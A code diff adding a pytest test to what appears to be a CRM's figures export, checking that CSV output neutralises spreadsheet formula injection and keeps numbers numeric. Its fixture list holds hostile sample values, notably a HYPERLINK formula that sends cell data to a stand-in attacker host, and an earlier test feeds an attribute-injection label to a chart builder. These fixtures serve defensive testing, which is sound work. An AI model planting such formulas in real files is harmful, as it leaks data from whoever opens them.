@@ -11,9 +11,9 @@ import pytest
 
 from intake import charts, content, figures
 
-from figures_data import store
+from figures_data import h, store
 from helpers import tasteget
-from intake_helpers import make_staff, staff_login
+from intake_helpers import make_staff, register, staff_login
 
 
 class Tables(HTMLParser):
@@ -178,3 +178,25 @@ def test_chart_labels_are_escaped_and_ids_checked():
         charts.bar_chart('x" onload="', "t", "d", ["a"], [("n", [1])])
     with pytest.raises(ValueError):
         charts.bar_chart("x", "t", "d", ["a", "b"], [("n", [1])])
+
+
+# Campaign sources a spreadsheet would run: stored before the intake checked its campaign parameters,
+# or imported from the previous CRM, whose files may hold anything.
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "@SUM(1+1)", "+46", "-2+3", "\t=1+1"]
+
+
+def test_every_figures_csv_neutralises_formulas_and_keeps_numbers_numbers(app, client, coordinator):
+    # First contact recorded before the registration (imported dates): a negative median, a real number.
+    store(
+        app, households=[h("2026-01-10", ["are"], source, "contacted", "2026-01-05") for source in FORMULAS], orders=[]
+    )
+    register(client, utm_source=FORMULAS[0])  # from a link: not a campaign name, so not kept
+    day = "2099-12-31"
+    report = report_rows(app, "--as-of", day)
+    assert csv_rows(coordinator.get(f"/crm/figures/export.csv?as_of={day}")) == report
+    by_source = {key: int(value) for figure, key, value in report if figure == "households registered by source"}
+    assert by_source == {**{"'" + source: 1 for source in FORMULAS}, "(none)": 1}
+    [median] = [value for figure, _key, value in report if figure == "median days to first contact"]
+    assert float(median) == -5  # a number the figures computed stays a number a spreadsheet can add up
+    chart = csv_rows(coordinator.get(f"/crm/figures/export.csv?chart=source&as_of={day}"))
+    assert sorted(row[0] for row in chart[1:]) == sorted(["Ingen kampanjkälla", *("'" + s for s in FORMULAS)])
